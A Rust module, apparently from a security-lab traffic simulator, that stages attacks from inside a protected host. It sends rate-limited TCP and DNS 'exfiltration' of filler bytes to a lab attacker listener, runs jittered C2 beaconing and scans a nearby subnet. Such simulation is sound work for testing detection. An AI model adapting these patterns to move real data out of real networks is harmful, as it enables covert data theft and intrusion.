//! Attacks from within: the protected host sends to the attacker.

use std::io;
use std::net::IpAddr;
use std::sync::mpsc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::{TcpStream, UdpSocket};
use tokio::task::spawn_local;
use tokio::time::{MissedTickBehavior, interval, sleep, timeout};

use super::Engagement;
use super::trigger::Trigger;
use crate::payload::{FILLER, query};
use crate::scenario::Channel;
use crate::traffic::benign::dns::fresh_socket;
use crate::traffic::crew::Crew;
use crate::traffic::server::{listener, sink};
use crate::traffic::wire::{COMMAND, DNS, DROP_SITE};
use crate::{Lab, LabError};

/// Bytes of secrets in one query's name.
const NAME: usize = 180;
/// Bytes handed to the stream at once.
const STEP: usize = 16_384;
/// Bytes announced for one upload; a new one follows.
const UPLOAD: u64 = 100_000_000;
/// Time after which an address that does not answer is given up.
const GIVEN_UP: Duration = Duration::from_secs(1);
/// Longest connection attempt.
const PATIENCE: Duration = Duration::from_secs(3);

/// Uploads at a rate over one channel.
pub(super) fn exfiltrate(
    crew: &mut Crew,
    lab: &Lab,
    engagement: &Engagement,
    channel: Channel,
    rate: u64,
    trigger: Trigger,
) -> Result<(), LabError> {
    match channel {
        Channel::Tcp => {
            listen(crew, lab, engagement, DROP_SITE)?;
            from_the_host(crew, lab, engagement, move |to, _| upload(to, rate, trigger))
        }
        Channel::Dns => {
            listen_for_queries(crew, lab, engagement)?;
            from_the_host(crew, lab, engagement, move |to, mut own| async move {
                let mut ticks = interval(Duration::from_secs_f64(NAME as f64 / rate as f64));
                ticks.set_missed_tick_behavior(MissedTickBehavior::Burst);
                loop {
                    ticks.tick().await;
                    let socket = fresh_socket(to).await?;
                    let query = query(own.between(0, u16::MAX), NAME);
                    trigger.pull();
                    trigger.connection();
                    // A refusal is an ICMP message about an earlier query.
                    if socket.send_to(&query, (to, DNS)).await.is_ok() {
                        trigger.bytes(query.len() as u64);
                    }
                }
            })
        }
    }
}

/// Connects every so often, says a little, and leaves.
pub(super) fn beacon(
    crew: &mut Crew,
    lab: &Lab,
    engagement: &Engagement,
    period: Duration,
    jitter: f64,
    trigger: Trigger,
) -> Result<(), LabError> {
    listen(crew, lab, engagement, COMMAND)?;
    from_the_host(crew, lab, engagement, move |to, mut draw| async move {
        loop {
            trigger.pull();
            trigger.connection();
            // No answer is no reason to stop asking.
            let _ = timeout(PATIENCE, check_in(to, &trigger)).await;
            let wait = draw.around(period, jitter);
            sleep(wait).await;
        }
    })
}

/// Connects to one address after the other, of which none answers.
pub(super) fn scan(
    crew: &mut Crew,
    lab: &Lab,
    engagement: &Engagement,
    port: u16,
    rate: u32,
    trigger: Trigger,
) -> Result<(), LabError> {
    let (network, _) = super::elsewhere(&engagement.attack, &engagement.attacker);
    from_the_host(crew, lab, engagement, move |_, mut draw| async move {
        let mut ticks = interval(Duration::from_secs(1) / rate);
        ticks.set_missed_tick_behavior(MissedTickBehavior::Skip);
        loop {
            ticks.tick().await;
            let host: u8 = draw.between(1, 126);
            let to: IpAddr = match network {
                IpAddr::V4(v4) => {
                    std::net::Ipv4Addr::from_bits(v4.to_bits() + u32::from(host)).into()
                }
                IpAddr::V6(v6) => {
                    std::net::Ipv6Addr::from_bits(v6.to_bits() + u128::from(host)).into()
                }
            };
            trigger.pull();
            trigger.connection();
            spawn_local(timeout(GIVEN_UP, TcpStream::connect((to, port))));
        }
    })
}

async fn check_in(to: IpAddr, trigger: &Trigger) -> io::Result<()> {
    let mut stream = TcpStream::connect((to, COMMAND)).await?;
    let message = [&64_u64.to_be_bytes()[..], &FILLER[..64]].concat();
    stream.write_all(&message).await?;
    trigger.bytes(message.len() as u64);
    tokio::io::AsyncReadExt::read_u8(&mut stream).await.map(drop)
}

async fn upload(to: IpAddr, rate: u64, trigger: Trigger) -> io::Result<()> {
    let mut ticks = interval(Duration::from_secs_f64(STEP as f64 / rate as f64));
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    loop {
        trigger.pull();
        trigger.connection();
        let Ok(Ok(mut stream)) = timeout(PATIENCE, TcpStream::connect((to, DROP_SITE))).await
        else {
            sleep(Duration::from_millis(500)).await;
            continue;
        };
        stream.write_u64(UPLOAD).await?;
        let mut left = UPLOAD;
        while left > 0 {
            ticks.tick().await;
            let some = STEP.min(usize::try_from(left).unwrap_or(STEP));
            if stream.write_all(&FILLER[..some]).await.is_err() {
                break;
            }
            trigger.bytes(some as u64);
            left -= some as u64;
        }
    }
}

/// Runs the host's part of an attack, with the attacker's address and a source of randomness.
fn from_the_host<F>(
    crew: &mut Crew,
    lab: &Lab,
    engagement: &Engagement,
    work: impl FnOnce(IpAddr, crate::draw::Draw) -> F + Send + 'static,
) -> Result<(), LabError>
where
    F: Future<Output = io::Result<()>>,
{
    let (to, draw) = (engagement.source, engagement.draw(0));
    let duration = engagement.attack.duration;
    let stop = crew.stop().clone();
    crew.spawn_tasks(lab.members(), &engagement.host, "inside job", move || async move {
        // Running out of time is how an attack is meant to end.
        let _ = timeout(duration, work(to, draw)).await;
        // The attacker has nothing to wait for any more.
        stop.stop();
    })
}

/// Starts the attacker's listener and returns when it listens.
fn listen(crew: &mut Crew, lab: &Lab, engagement: &Engagement, port: u16) -> Result<(), LabError> {
    start_listening(
        crew,
        lab,
        engagement,
        move || listener(port),
        |listener| async move {
            loop {
                if let Ok((stream, _)) = listener.accept().await {
                    spawn_local(sink::serve(stream));
                }
            }
        },
    )
}

fn listen_for_queries(crew: &mut Crew, lab: &Lab, engagement: &Engagement) -> Result<(), LabError> {
    let own = engagement.source;
    let open = move || {
        let socket = std::net::UdpSocket::bind((own, DNS))?;
        socket.set_nonblocking(true)?;
        UdpSocket::from_std(socket)
    };
    start_listening(crew, lab, engagement, open, |socket| async move {
        let mut query = [0; 2_048];
        loop {
            if let Ok((length, from)) = socket.recv_from(&mut query).await {
                let _ = socket.send_to(&query[..length], from).await;
            }
        }
    })
}

fn start_listening<S, F>(
    crew: &mut Crew,
    lab: &Lab,
    engagement: &Engagement,
    open: impl FnOnce() -> io::Result<S> + Send + 'static,
    serve: impl FnOnce(S) -> F + Send + 'static,
) -> Result<(), LabError>
where
    F: Future<Output = ()>,
{
    let (ready, is_ready) = mpsc::channel();
    crew.spawn_tasks(lab.members(), &engagement.attacker, "listener", move || async move {
        match open() {
            Ok(socket) => {
                // If no one waits any more, the crew is being stopped.
                let _ = ready.send(Ok(()));
                serve(socket).await;
            }
            Err(error) => drop(ready.send(Err(error))),
        }
    })?;
    let doing = || format!("start the listener of {}", engagement.attacker.name);
    is_ready
        .recv_timeout(Duration::from_secs(10))
        .map_err(|error| LabError::system(doing(), io::Error::other(error)))?
        .map_err(|error| LabError::system(doing(), error))
}
